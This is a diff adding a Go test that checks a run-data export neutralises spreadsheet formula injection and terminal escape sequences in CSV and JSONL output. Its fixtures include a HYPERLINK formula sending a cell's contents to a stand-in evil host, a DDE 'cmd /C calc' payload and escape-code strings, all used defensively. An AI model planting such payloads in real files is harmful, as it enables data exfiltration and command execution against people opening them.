@@ -360,3 +360,78 @@ func TestExportRefuses(t *testing.T) {
 // defaultExportWarmup is the default warmup (auto) of the export specs'
 // 10 s steps.
 var defaultExportWarmup = AutoWarmup(Shape{StepTimeS: 10})
+
+// TestExportNeutralisesText: text cells crafted in a run file (a run_id,
+// an error class and messages) that a spreadsheet would run as a formula,
+// or that hold terminal escapes. In CSV every text cell that starts with
+// '=', '+', '-' or '@' gets a leading single quote; in CSV and JSONL no
+// control character is left in any value (it becomes a space); numbers
+// (negative ones too) and other text are as they were.
+func TestExportNeutralisesText(t *testing.T) {
+	dir := t.TempDir()
+	meta, recs := analyzetest.Records(exportSpec)
+	const runID = `=HYPERLINK("http://evil.example/?"&A3,"open")`
+	meta.RunID = runID
+	errs := []struct{ class, msg, csv, jsonl string }{
+		{"@SUM(1+1)", "\x1b]0;pwned\x07\x1b[2J=1+1", "'@SUM(1+1)| ]0;pwned  [2J=1+1", "@SUM(1+1)| ]0;pwned  [2J=1+1"},
+		{"http_5xx", "+1 is a formula", "http_5xx|'+1 is a formula", "http_5xx|+1 is a formula"},
+		{"-x", "-2", "'-x|'-2", "-x|-2"},
+		{"http_4xx", "\t=cmd|' /C calc'!A0", "http_4xx| =cmd|' /C calc'!A0", "http_4xx| =cmd|' /C calc'!A0"},
+		{"http_4xx", "a\u202eb\u2028c\u009bd\re", "http_4xx|a b c d e", "http_4xx|a b c d e"},
+		{"timeout", "timeout after 1s", "timeout|timeout after 1s", "timeout|timeout after 1s"},
+	}
+	for i := range recs {
+		recs[i].RunID = runID
+		if i < len(errs) {
+			recs[i].OK, recs[i].Status = false, 503
+			recs[i].ErrorClass, recs[i].Error = &errs[i].class, &errs[i].msg
+		}
+	}
+	in := filepath.Join(dir, "crafted.parquet")
+	if err := analyzetest.WriteRecords(in, meta, recs); err != nil {
+		t.Fatal(err)
+	}
+	for _, tc := range []struct {
+		format string
+		read   func(*testing.T, []byte) []exportedRow
+	}{{ExportCSV, readCSV}, {ExportJSONL, readJSONL}} {
+		t.Run(tc.format, func(t *testing.T) {
+			out := filepath.Join(t.TempDir(), "rows")
+			if _, err := Export(context.Background(), DefaultOptions(), tc.format, out, in); err != nil {
+				t.Fatal(err)
+			}
+			data, err := os.ReadFile(out)
+			if err != nil {
+				t.Fatal(err)
+			}
+			buf := bytes.NewBuffer(data)
+			for i, c := range buf.String() {
+				if c != '\n' && unprintable(c) {
+					t.Fatalf("byte %d of the %s export is the control %U", i, tc.format, c)
+				}
+			}
+			rows := tc.read(t, buf.Bytes())
+			wantID := runID
+			if tc.format == ExportCSV {
+				wantID = "'" + runID
+			}
+			for i, row := range rows {
+				if row["run_id"] != wantID {
+					t.Fatalf("row %d run_id = %q, want %q", i, row["run_id"], wantID)
+				}
+				if i < len(errs) {
+					want := errs[i].csv
+					if tc.format == ExportJSONL {
+						want = errs[i].jsonl
+					}
+					if got := row["error_class"] + "|" + row["error"]; got != want {
+						t.Errorf("row %d: error_class|error = %q, want %q", i, got, want)
+					}
+				}
+				if ms := row["scheduled_ms"]; strings.HasPrefix(ms, "'") {
+					t.Errorf("row %d: a number was quoted: %q", i, ms)
+				}
+			}
+		})
+	}
+}
